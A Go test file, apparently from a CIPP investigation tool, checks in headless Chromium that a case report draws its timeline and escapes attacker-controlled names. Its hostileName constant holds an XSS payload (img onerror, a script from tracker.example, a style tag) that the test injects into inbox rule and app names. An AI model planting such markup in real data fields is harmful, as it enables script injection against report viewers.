package main

import (
	"bytes"
	"context"
	"encoding/xml"
	"errors"
	"image/color"
	"image/png"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"
)

// browser is a Chromium that can be run without a screen; the test that needs it says where it is not.
func browser(t *testing.T) string {
	t.Helper()
	if testing.Short() {
		t.Skip("a browser takes seconds: left out under -short")
	}
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	t.Skip("no Chromium is installed (Debian: apt-get install chromium), so nobody looked at the report in a browser")
	return ""
}

// seen is what a browser asked of the world while it showed a page.
type seen struct {
	mu  sync.Mutex
	all []string
}

func (s *seen) add(what string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.all = append(s.all, what)
}

// show lets a browser open a page that lies at an own server. Whatever else is asked for comes to a proxy that answers
// nobody, and is counted.
type show struct {
	t               *testing.T
	bin, url, dir   string
	page, elsewhere seen
	proxy           string
}

func newShow(t *testing.T, page []byte) *show {
	t.Helper()
	s := &show{t: t, bin: browser(t), dir: t.TempDir()}
	own := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.page.add(r.Method + " " + r.URL.Path)
		if r.URL.Path != "/report.html" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write(page)
	}))
	t.Cleanup(own.Close)
	nobody := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !browsersOwn(r.Host) {
			s.elsewhere.add(r.Method + " " + r.Host)
		}
		w.WriteHeader(http.StatusBadGateway)
	}))
	t.Cleanup(nobody.Close)
	s.url, s.proxy = own.URL+"/report.html", nobody.URL
	return s
}

// browsersOwn tells the hosts that a Chromium talks to by itself, whatever it shows.
func browsersOwn(host string) bool {
	host, _, _ = strings.Cut(host, ":")
	for _, d := range []string{".google.com", ".googleapis.com", ".gstatic.com", ".googleusercontent.com"} {
		if strings.HasSuffix(host, d) {
			return true
		}
	}
	return false
}

// run opens the page and answers what the browser prints.
func (s *show) run(flags ...string) []byte {
	s.t.Helper()
	ctx, cancel := context.WithTimeout(s.t.Context(), 2*time.Minute)
	defer cancel()
	args := append([]string{"--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-default-apps",
		"--disable-extensions", "--disable-features=OptimizationHints,MediaRouter,Translate,AutofillServerCommunication", "--metrics-recording-only", "--force-color-profile=srgb", "--user-data-dir=" + filepath.Join(s.dir, "profile"), "--proxy-server=" + s.proxy}, flags...)
	cmd := exec.CommandContext(ctx, s.bin, append(args, s.url)...) //nolint:gosec // the machine's own browser
	var errs bytes.Buffer
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		s.t.Fatalf("the browser: %v\n%s", err, errs.String())
	}
	return out
}

// hostileName is what an attacker calls a rule, an application or himself: a page that took it for markup would fetch,
// run, or hide.
const hostileName = `<img src=http://tracker.example/a.png onerror=document.title='taken'><script src=http://tracker.example/b.js></script><style>svg{display:none}</style>`

// The report of a whole case is looked at in a real browser: its timeline and its bands are drawn, names that would be
// markup are text, and nothing is fetched. It prints.
func TestTheReportInABrowser(t *testing.T) {
	browser(t)
	w := newWorld(t, worldOptions{flags: cloudFlags{sandbox: retold(t, func(tenant, _ m) {
		for _, v := range tenant["exchange"].(m)["mailboxes"].([]any) {
			box := v.(m)
			for _, list := range []string{"InboxRules", "HiddenInboxRules"} {
				rules, _ := box[list].([]any)
				for _, r := range rules {
					r.(m)["Name"] = hostileName
				}
			}
		}
		for _, v := range tenant["graph"].(m)["servicePrincipals"].([]any) {
			v.(m)["displayName"] = hostileName
		}
	})}})
	caseID, _ := investigated(w).v["caseId"].(string)
	r := mcp.ReadResourceRequest{}
	r.Params.URI = "cipp://cases/" + caseID + "/report.html"
	res, err := w.client.ReadResource(t.Context(), r)
	if err != nil {
		t.Fatal(err)
	}
	text, ok := mcp.AsTextResourceContents(res.Contents[0])
	if !ok {
		t.Fatal("the page is no text")
	}
	s := newShow(t, []byte(text.Text))

	n, words, title := looked(t, s.run("--dump-dom"))
	if n["svg"] != 1 || n["circle.dot-attacker"] < 5 || n["rect.band-complete"] < 4 || n["table"] < 4 {
		t.Errorf("the page does not draw what it should: %v", n)
	}
	if n["script"]+n["img"]+n["iframe"]+n["a"] > 0 || n["style"] != 1 {
		t.Errorf("something on the page acts or reaches out: %v", n)
	}
	if !strings.Contains(words, "tracker.example") || !strings.Contains(words, "<img src") {
		t.Error("a hostile name is not shown as the text that it is")
	}
	if strings.Contains(title, "taken") || !strings.Contains(title, caseID) {
		t.Errorf("the title is %q", title)
	}

	shot := filepath.Join(s.dir, "report.png")
	s.run("--screenshot="+shot, "--window-size=1280,12000", "--hide-scrollbars")
	if keep := os.Getenv("CIPP_TEST_KEEP"); keep != "" {
		if b, err := os.ReadFile(shot); err == nil {
			_ = os.WriteFile(filepath.Join(keep, "report.png"), b, 0o600)
		}
	}
	colours := painted(t, shot)
	for what, c := range map[string]color.RGBA{"attacker's dots": {0xa1, 0x17, 0x1f, 255}, "other dots": {0x6b, 0x7a, 0x90, 255}, "bands": {0x9c, 0xc9, 0xae, 255}} {
		if colours[c] < 100 {
			t.Errorf("of the %s %d pixels are there", what, colours[c])
		}
	}

	paper := filepath.Join(s.dir, "report.pdf")
	s.run("--print-to-pdf="+paper, "--no-pdf-header-footer")
	b, err := os.ReadFile(paper)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b, []byte("%PDF-")) || len(b) < 20_000 || bytes.Count(b, []byte("/Type /Page\n")) < 2 {
		t.Errorf("the print has %d bytes and %d pages", len(b), bytes.Count(b, []byte("/Type /Page\n")))
	}

	for _, got := range s.page.all {
		if got != "GET /report.html" && got != "GET /favicon.ico" { // that the browser asks for by itself
			t.Errorf("the page asked for %s", got)
		}
	}
	if len(s.page.all) < 3 || len(s.elsewhere.all) > 0 {
		t.Errorf("%d times the page was fetched, and elsewhere %v", len(s.page.all), s.elsewhere.all)
	}
}

// looked counts the elements of a page as the browser holds it, by name and by name and class, and gathers its words.
func looked(t *testing.T, dom []byte) (n map[string]int, words, title string) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(dom))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	n = map[string]int{}
	var all strings.Builder
	in := ""
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return n, all.String(), title
		}
		if err != nil {
			t.Fatalf("what the browser holds is no page: %v", err)
		}
		switch e := tok.(type) {
		case xml.StartElement:
			in = e.Name.Local
			n[in]++
			for _, a := range e.Attr {
				if a.Name.Local == "class" {
					n[in+"."+a.Value]++
				}
				if a.Name.Local == "src" || a.Name.Local == "href" || strings.HasPrefix(a.Name.Local, "on") {
					t.Errorf("<%s %s=%q>", in, a.Name.Local, a.Value)
				}
			}
		case xml.CharData:
			if in == "title" && title == "" {
				title = string(e)
			}
			if in != "style" {
				all.Write(e)
			}
		}
	}
}

// painted counts the pixels of a picture by their colour.
func painted(t *testing.T, path string) map[color.RGBA]int {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	img, err := png.Decode(f)
	if err != nil {
		t.Fatal(err)
	}
	out := map[color.RGBA]int{}
	for y := img.Bounds().Min.Y; y < img.Bounds().Max.Y; y++ {
		for x := img.Bounds().Min.X; x < img.Bounds().Max.X; x++ {
			c, _ := color.RGBAModel.Convert(img.At(x, y)).(color.RGBA)
			out[c]++
		}
	}
	return out
}
